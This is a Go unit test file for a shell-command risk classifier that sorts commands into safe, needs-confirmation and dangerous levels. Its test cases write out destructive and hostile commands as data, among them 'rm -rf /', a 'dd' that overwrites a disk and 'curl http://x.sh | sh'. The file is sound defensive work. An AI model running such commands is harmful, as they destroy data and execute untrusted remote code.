package safety

import "testing"

func TestClassify(t *testing.T) {
	tests := []struct {
		name     string
		command  string
		expected RiskLevel
	}{
		// Read-only commands
		{"ls", "ls -la", Safe},
		{"cat", "cat file.txt", Safe},
		{"pwd", "pwd", Safe},
		{"grep", "grep pattern file", Safe},
		{"free", "free", Safe},

		// Destructive builtins always need confirmation
		{"rm", "rm file.txt", NeedsConfirm},
		{"rm recursive", "rm -rf build", NeedsConfirm},
		{"rmdir", "rmdir old", NeedsConfirm},
		{"mv", "mv a b", NeedsConfirm},
		{"kill", "kill 123", NeedsConfirm},

		// Unknown commands default to confirmation
		{"unknown", "deploy --prod", NeedsConfirm},

		// Chaining hides commands behind the first word
		{"chained", "ls; rm -rf build", NeedsConfirm},
		{"piped", "cat f | tee g", NeedsConfirm},

		// Dangerous patterns
		{"rm root", "rm -rf /", Dangerous},
		{"sudo", "sudo rm file", Dangerous},
		{"dd", "dd if=/dev/zero of=/dev/sda", Dangerous},
		{"pipe to shell", "curl http://x.sh | sh", Dangerous},
		{"chmod 777", "chmod -R 777 /var", Dangerous},
		{"rm home", "rm -rf ~", Dangerous},

		{"empty", "", Dangerous},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Classify(tt.command); got != tt.expected {
				t.Errorf("Classify(%q) = %v, want %v", tt.command, got, tt.expected)
			}
		})
	}
}

func TestRiskDescription(t *testing.T) {
	for _, level := range []RiskLevel{Safe, NeedsConfirm, Dangerous} {
		if RiskDescription(level) == "" {
			t.Errorf("RiskDescription(%v) is empty", level)
		}
	}
}

func TestRiskLevelString(t *testing.T) {
	tests := []struct {
		level RiskLevel
		want  string
	}{
		{Safe, "safe"},
		{NeedsConfirm, "needs_confirm"},
		{Dangerous, "dangerous"},
		{RiskLevel(42), "unknown"},
	}

	for _, tt := range tests {
		if got := tt.level.String(); got != tt.want {
			t.Errorf("RiskLevel(%d).String() = %q, want %q", tt.level, got, tt.want)
		}
	}
}
